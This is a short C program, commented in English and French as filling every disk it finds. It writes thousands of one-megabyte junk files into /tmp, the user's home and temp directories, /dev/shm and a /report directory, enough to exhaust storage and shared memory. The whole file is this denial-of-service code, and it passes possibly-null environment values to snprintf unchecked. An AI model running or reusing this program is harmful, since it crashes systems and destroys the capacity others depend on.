// Fills every disk it finds, with files | Remplit de fichiers tout disque qu'il trouve
#include <stdio.h>
#include <stdlib.h>

int main(void)
{
	const char *places[] = {
		"/tmp", getenv("TMPDIR"), getenv("HOME"), "/dev/shm", "/report"};
	static char block[1 << 16];
	for (int number = 0; number < 4000; number++)
		for (int place = 0; place < 5; place++) {
			char name[256];
			snprintf(name, sizeof name, "%s/%d", places[place], number);
			FILE *file = fopen(name, "w");
			if (file == NULL)
				continue;
			for (int i = 0; i < 16; i++)
				fwrite(block, 1, sizeof block, file);
			fclose(file);
		}
}
